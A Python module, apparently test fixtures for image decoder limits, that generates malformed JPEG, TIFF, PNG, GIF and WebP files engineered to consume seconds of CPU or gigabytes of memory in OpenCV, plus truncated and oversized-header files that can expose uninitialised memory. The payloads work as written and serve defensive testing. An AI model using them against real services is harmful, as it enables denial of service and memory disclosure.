"""Small files that cost a decoder much, each named after what it abuses.

What each costs without a limit stands beside it: seconds and memory of OpenCV 5.0 on one core.
"""

import io
import struct
import zlib

from PIL import Image


def encode(kind: str, image: Image.Image | tuple = (8, 8), mode: str = "L", **options) -> bytes:
    """Return a file of an image, or of a white one of that size."""
    if isinstance(image, tuple):
        image = Image.new(mode, image, "white")
    image.save(out := io.BytesIO(), kind, **options)
    return out.getvalue()


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff(rest: bytes = b"", width=8, height=8, compression=1, **more: tuple) -> bytes:
    """Return a TIFF of one gray strip, `rest`; more tags come as _number=(kind, count, value)."""
    tags = {256: (4, 1, width), 257: (4, 1, height), 258: (3, 1, 8), 259: (3, 1, compression)}
    tags |= {262: (3, 1, 1), 278: (4, 1, height), 279: (4, 1, len(rest) or width * height)}
    tags |= {int(number[1:]): values for number, values in more.items()}
    tags.setdefault(273, (4, 1, 14 + 12 * len(tags) + 12))
    entries = (struct.pack("<HHII", number, *tags[number]) for number in sorted(tags))
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(tags)) + b"".join(entries) + bytes(4) + rest


def jpeg_of_scans(scans: int = 2000, side: int = 8000) -> bytes:
    """Return a progressive JPEG that visits every block again in each scan: over 20 s."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    blocks = (-(-side // 8)) ** 2
    runs = ("0" + "1" * 14) * -(-blocks // 32767)  # blocks without a coefficient
    runs += "1" * (-len(runs) % 8)
    runs = int(runs, 2).to_bytes(len(runs) // 8, "big").replace(b"\xff", b"\xff\0")
    one_symbol = bytes([1, *[0] * 15])  # a Huffman table of one code, of one bit
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\0" + b"\1" * 64)
        + segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0))
        + segment(0xC4, b"\0" + one_symbol + b"\0")
        + segment(0xC4, b"\x10" + one_symbol + b"\xe0")
        + segment(0xDA, bytes([1, 1, 0, 0, 0, 1]))
        + bytes(-(-blocks // 8))
        + (segment(0xDA, bytes([1, 1, 0, 1, 63, 0x10])) + runs) * scans
        + b"\xff\xd9"
    )


def tiff_of_same_bytes() -> bytes:
    """Return a TIFF of 400 tags that hold the same bytes: 3.6 s, 2 GB."""
    same = {f"_{1000 + n}": (1, 5_000_000, 8) for n in range(400)}
    return tiff(bytes(5_000_000), _279=(4, 1, 64), **same)


def tiff_of_strips(strips: int = 1_000_000) -> bytes:
    """Return a TIFF of a strip a row, all of them the same: 7 s."""
    start = 14 + 12 * 8
    rest = struct.pack("<I", start + 8 * strips) * strips + struct.pack("<I", 6) * strips
    where = {"_273": (4, strips, start), "_279": (4, strips, start + 4 * strips)}
    strip = bytes.fromhex("800001010101")
    return tiff(rest + strip, 8, strips, 5, _278=(3, 1, 1), **where)


def png_with(chunks: bytes) -> bytes:
    """Return a PNG with chunks before its pixels."""
    return encode("PNG")[:33] + chunks + encode("PNG")[33:]


def gif_of_size() -> bytes:
    """Return a GIF of 4 billion pixels: 4 GB before the first is decoded."""
    content, size = encode("GIF"), struct.pack("<HH", 65_535, 65_535)
    return claim(claim(content, 6, size), content.index(b",") + 5, size)


def webp_of_canvas() -> bytes:
    """Return an animation of 8 by 8 pixels on a canvas of 268 million: 2 GB."""
    content = encode("WEBP", save_all=True, append_images=[Image.new("L", (8, 8), 7)])
    return claim(content, 24, (16_382).to_bytes(3, "little") * 2)


PROFILE = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(2**20)))
ATTACKS = {
    "jpeg_of_scans": jpeg_of_scans,
    "tiff_of_scans": lambda: tiff(jpeg_of_scans(2000, 4000), 4000, 4000, compression=7),  # 1.8 s
    "tiff_of_same_bytes": tiff_of_same_bytes,
    "tiff_of_strips": tiff_of_strips,
    "png_of_chunks": lambda: png_with(chunk(b"prVt") * 1_500_000),  # 0.1 s; counted in Python: 1 s
    "png_of_gamma": lambda: png_with(chunk(b"gAMA", b"\0\0\xb1\x8f") * 40_000),  # 1 MB of warnings
    "png_of_profiles": lambda: png_with(PROFILE * 15_000),  # 0.1 s: each unpacks to a megabyte
    "png_of_length": lambda: png_with(struct.pack(">I4s", 2**31 - 1, b"PLTE")),  # 2 s, 2 GB
    "gif_of_size": gif_of_size,
    "webp_of_canvas": webp_of_canvas,
}


def claim(content: bytes, place: int, size: bytes) -> bytes:
    """Write another size into a file's header."""
    return content[:place] + size + content[place + len(size) :]


def claims() -> dict[str, bytes]:
    """Return files of every kind that claim more than they hold.

    A careless decoder fills such pictures with whatever its memory held before.
    """
    side = struct.pack(">II", 280, 280)
    apng = b"\x89PNG\r\n\x1a\n" + b"".join((
        chunk(b"IHDR", side + b"\x08\0\0\0\0"), chunk(b"acTL", struct.pack(">II", 2, 0)),
        chunk(b"fcTL", bytes(4) + side + struct.pack(">IIHHBB", 0, 0, 1, 1, 0, 0)),
        chunk(b"IDAT", zlib.compress((b"\0" + b"\xff" * 280) * 2)), chunk(b"IEND"),
    ))  # fmt: skip
    files = {"APNG": apng, "PNG of 2 rows": apng.replace(b"acTL", b"acTl")}
    for compression, bits in ((2, 1), (3, 1), (4, 1), (5, 8), (7, 8), (8, 8), (32773, 8)):
        files[f"TIFF of {compression}"] = tiff(bytes(8), 96, 400, compression, _258=(3, 1, bits))
    for kind in ("PNG", "JPEG", "WEBP", "GIF", "BMP", "AVIF", "PPM", "TIFF"):
        content = encode(kind, (96, 96), "RGB")
        files[f"most of a {kind}"] = content[: int(0.9 * len(content))]
    jpeg, gif = encode("JPEG", (96, 96), "RGB"), encode("GIF", (96, 96))
    files["tall GIF"] = claim(gif, 8, struct.pack("<H", 900))
    return files | {"tall JPEG": claim(jpeg, jpeg.index(b"\xff\xc0") + 5, struct.pack(">H", 900))}
